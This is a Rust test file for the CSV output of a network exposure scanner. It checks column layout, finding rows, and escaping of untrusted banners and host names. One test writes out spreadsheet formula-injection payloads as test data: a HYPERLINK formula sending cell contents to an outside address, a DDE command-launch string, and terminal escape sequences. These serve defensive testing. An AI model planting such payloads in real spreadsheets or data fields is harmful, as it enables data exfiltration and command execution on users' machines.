//! The list that spreadsheets read: what is in it, read back by a parser, whatever servers and inventories say.

use std::collections::BTreeMap;

use jiff::Timestamp;
use portreeve::policy::allowlist::{Allowance, Allowlist, Approval, DEFAULT_WARN_BEFORE};
use portreeve::policy::evaluate::evaluate;
use portreeve::sink::csv::{COLUMNS, List, write_targets};
use portreeve::sink::event::Run;
use portreeve::sweep::banner::{Banner, Protocol};
use portreeve::sweep::report::{Observation, UnknownReason};
use portreeve::sweep::untrusted::Untrusted;
use portreeve::sweep::verified::{AnswersAll, Confirmation, Verification, Verifications};
use portreeve::target::foreign::is_printable;
use portreeve::target::names::Names;
use portreeve::target::scope::Scope;
use portreeve::target::state::{Reason, State};
use portreeve::target::{Target, Transport};
use proptest::prelude::*;
use ulid::Ulid;

type Row = BTreeMap<String, String>;

fn time(second: u32) -> Timestamp {
    format!("2026-02-01T12:34:{second:02}.789012345Z").parse().expect("a time")
}

fn target(ip: &str, port: u16) -> Target {
    Target { ip: ip.parse().expect(ip), port, transport: Transport::Tcp }
}

fn seen(ip: &str, port: u16, reason: Option<Reason>) -> Observation {
    Observation {
        target: target(ip, port),
        state: reason.map_or(State::Unknown, Reason::state),
        reason,
        unknown: reason.is_none().then_some(UnknownReason::CanariesSilent),
        tries: 2,
        rtt_us: reason.map(|_| 812),
        ttl: None,
        corrects: false,
    }
}

fn run(named: &[(&str, &str)]) -> Run {
    let named = named.iter().map(|(ip, name)| (ip.parse().expect(ip), *name));
    Run::new(Ulid::from_parts(1, 2), None).with_names(Names::new(named))
}

fn banner(said: &[u8]) -> Banner {
    Banner { protocol: Protocol::Ssh, text: Untrusted::new(said) }
}

/// What policy has to judge: what is open, what is known of it, and what is allowed and not used.
#[derive(Clone, Default)]
struct Case {
    opens: Vec<Observation>,
    known: Verifications,
    unused: Vec<Allowance>,
}

impl Case {
    /// A target that may not be open, and what it said to the second look.
    fn exposed(mut self, ip: &str, port: u16, said: Option<&[u8]>) -> Self {
        self.opens.push(seen(ip, port, Some(Reason::SynAck)));
        if let Some(said) = said {
            let verification = Verification::Verified;
            let known = Confirmation { verification, conduct: None, banner: Some(banner(said)) };
            self.known.targets.insert(target(ip, port), known);
        }
        self
    }

    /// A host that accepts everything, seven ports of which were listened to.
    fn answering_all(mut self, ip: &str) -> Self {
        let ports = 1001..1008;
        self.opens.extend(ports.clone().map(|port| seen(ip, port, Some(Reason::SynAck))));
        // Whatever else is open on it stands out.
        let real = [22, 6379].into();
        let host =
            AnswersAll { canary_ports: vec![50_001], heard: ports.collect(), real, ..AnswersAll::default() };
        self.known.answers_all.insert(target(ip, 1).ip, host);
        self
    }

    fn unused(mut self, reason: &str, owner: &str) -> Self {
        self.unused.push(Allowance {
            hosts: vec!["198.18.0.10".parse().expect("a host")],
            ports: "22".parse().expect("a port"),
            reason: reason.into(),
            owner: owner.into(),
            approval: Approval::default(),
            expires: None,
            warn_before: DEFAULT_WARN_BEFORE,
            line: None,
        });
        self
    }
}

fn written(list: &mut List, run: &Run, case: &Case) -> String {
    let scope =
        Scope::new(&["198.18.0.0/16".parse().expect("a network")], &[], "22".parse().expect("a port"));
    let (scope, allowlist) = (scope.expect("a scope"), Allowlist::new(case.unused.clone()));
    let findings = evaluate(&case.opens, &allowlist, case.known.clone(), &scope, true, time(0));
    let mut out = Vec::new();
    list.write(&mut out, run, time(59), &findings).expect("memory");
    String::from_utf8(out).expect("text")
}

/// The rows of a list, with all that must hold for every cell of every list.
fn rows(text: &str) -> Vec<Row> {
    let mut reader = csv::Reader::from_reader(text.as_bytes());
    assert_eq!(reader.headers().expect("a header"), &COLUMNS[..]);
    let rows: Vec<Row> = reader.deserialize().map(|row| row.expect("as many cells as columns")).collect();
    assert_eq!(text.lines().count(), rows.len() + 1, "no cell goes over the end of its line: {text}");
    for cell in rows.iter().flat_map(BTreeMap::values) {
        assert!(is_printable(cell), "{cell:?}");
        assert!(!cell.starts_with(['=', '+', '-', '@', '\t', '\r']), "{cell:?}");
    }
    rows
}

fn cells<'r>(row: &'r Row, columns: &[&str]) -> Vec<&'r str> {
    columns.iter().map(|column| row[*column].as_str()).collect()
}

#[test]
fn the_columns_are_as_they_were() {
    let mut list = List::default();
    let observation = seen("198.18.3.4", 6379, Some(Reason::SynAck));
    list.observe(time(1), &observation, false);
    list.observe(time(2), &seen("198.18.3.5", 22, None), true);
    list.confirm(time(3), &observation, Some(&banner(b"+PONG \"a, b\"\r\n")));
    let case = Case::default()
        .exposed("198.18.3.4", 6379, Some(b"+PONG"))
        .answering_all("198.18.3.9")
        .unused("bastion", "netops");
    let run = run(&[("198.18.3.4", "cache, first"), ("198.18.3.4", "redis")]);
    insta::assert_snapshot!(written(&mut list, &run, &case));
}

#[test]
fn the_last_word_on_a_target_wins() {
    let mut list = List::default();
    list.observe(time(1), &seen("198.18.3.5", 22, Some(Reason::SynAck)), true);
    list.observe(time(2), &seen("198.18.3.4", 22, Some(Reason::SynAck)), false);
    list.observe(time(3), &seen("198.18.3.4", 7, Some(Reason::Rst)), true);
    list.observe(time(4), &seen("198.18.3.5", 22, Some(Reason::Contradiction)), true);
    list.confirm(time(5), &seen("198.18.3.4", 22, Some(Reason::SynAck)), None);
    let text = written(&mut list, &run(&[]), &Case::default());
    let rows = rows(&text);
    let columns = ["time", "ip", "port", "state", "reason", "verified", "finding"];
    let told: Vec<_> = rows.iter().map(|row| cells(row, &columns).join(" ")).collect();
    assert_eq!(
        told,
        [
            "2026-02-01T12:34:03.789Z 198.18.3.4 7 closed rst false ",
            "2026-02-01T12:34:05.789Z 198.18.3.4 22 open syn-ack true ",
            "2026-02-01T12:34:04.789Z 198.18.3.5 22 conflict contradiction false ",
        ]
    );
    assert_eq!(written(&mut list, &run(&[]), &Case::default()), text, "the same again");
}

#[test]
fn no_finding_is_lost() {
    let mut list = List::default();
    list.observe(time(1), &seen("::ffff:198.18.3.4", 22, Some(Reason::SynAck)), false);
    let case = Case::default()
        .exposed("198.18.3.4", 6379, None)
        .exposed("198.18.3.4", 22, Some(b"SSH-2.0-x"))
        .answering_all("198.18.3.4")
        .unused("bastion", "netops");
    let rows = rows(&written(&mut list, &run(&[]), &case));
    let columns = ["port", "state", "verified", "severity", "finding", "banner"];
    let told: Vec<_> = rows.iter().map(|row| cells(row, &columns)).collect();
    assert_eq!(told[0], ["22", "open", "true", "high", "exposure", "SSH-2.0-x"], "one line for both");
    assert_eq!(told[1], ["6379", "", "false", "critical", "exposure", ""], "though nobody lists its target");
    assert_eq!(told[2], ["", "", "", "", "answers-all", ""]);
    assert_eq!(told[3], ["", "", "", "", "allowance-unused", ""]);
    assert_eq!(told.len(), 4);
    let messages = [
        "198.18.3.4:22/tcp (ssh) is open, not allowed: ",
        "198.18.3.4:6379/tcp (redis) is open, not allowed: ",
        "198.18.3.4 accepts every port, 7 open ports that are not allowed and canary ports 50001 too, ",
        "the allowance of port 22 of 198.18.0.10 for ",
    ];
    for (row, message) in rows.iter().zip(messages) {
        assert!(row["message"].starts_with(message), "{row:?}");
    }
}

#[test]
fn what_others_say_is_neither_executed_nor_obeyed() {
    let link = "=HYPERLINK(\"http://198.18.9.9/?\"&A1,\"a\")";
    let mut list = List::default();
    let hosts = ["198.18.3.1", "198.18.3.2", "198.18.3.3", "198.18.3.4"];
    let banners = [link.as_bytes(), b"@SUM(1+9)*cmd|' /C calc'!A0", b"-\x1b[2J\",\"\r\n=1\n", b"\t=1\xff;=2"];
    for (ip, said) in hosts.iter().zip(banners) {
        list.confirm(time(1), &seen(ip, 22, Some(Reason::SynAck)), Some(&banner(said)));
    }
    let names = [
        ("198.18.3.1", link),
        ("198.18.3.2", "a\nb,\"c\"\x1b]0;title\x07"),
        ("198.18.3.3", "+1"),
        ("198.18.3.3", "@x"),
        ("198.18.3.4", "\r=1"),
    ];
    let unused = ("\x1b[2J\n", "\"x\",\r\n=1\x1b[2J\u{202e}");
    let case = Case::default().exposed("198.18.3.1", 22, None).unused(unused.0, unused.1);
    let rows = rows(&written(&mut list, &run(&names), &case));
    let told: Vec<_> = rows.iter().map(|row| cells(row, &["names", "banner"])).collect();
    assert_eq!(told[0], [format!("'{link}"), format!("'{link}")]);
    assert_eq!(told[1], [r#"a\nb,"c"\x1b]0;title\x07"#, "'@SUM(1+9)*cmd|' /C calc'!A0"]);
    assert_eq!(told[2], ["'+1 @x", r#"'-\x1b[2J","\r\n=1\n"#]);
    assert_eq!(told[3], [r"\r=1", r"\t=1\xff;=2"]);
    assert!(rows[4]["message"].contains(r#"("x",\r\n=1\x1b[2J\u{202e})"#), "{:?}", rows[4]);
}

#[test]
fn nothing_found_is_a_header() {
    assert_eq!(rows(&written(&mut List::default(), &run(&[]), &Case::default())), []);
    let mut out = Vec::new();
    write_targets(&mut out, [target("198.18.3.1", 22), target("2001:db8::1", 80)].into_iter())
        .expect("memory");
    assert_eq!(out, b"ip,port,transport\n198.18.3.1,22,tcp\n2001:db8::1,80,tcp\n");
}

proptest! {
    /// `rows` checks each cell.
    #[test]
    fn a_list_is_whole_whatever_is_said(
        said in prop::collection::vec(any::<u8>(), 0..300),
        name in "[=+@\"\\-,\\t\\r\\n\\x1b;]{0,3}\\PC{0,20}.{0,20}",
    ) {
        let mut list = List::default();
        list.confirm(time(1), &seen("198.18.3.4", 22, Some(Reason::SynAck)), Some(&banner(&said)));
        let case = Case::default().exposed("198.18.3.4", 22, None).unused(&name, &name);
        let rows = rows(&written(&mut list, &run(&[("198.18.3.4", &name)]), &case));
        prop_assert_eq!(rows.len(), 2);
        let kept = String::from(Untrusted::new(&said));
        prop_assert_eq!(rows[0]["banner"].trim_start_matches('\''), kept.trim_start_matches('\''));
    }
}
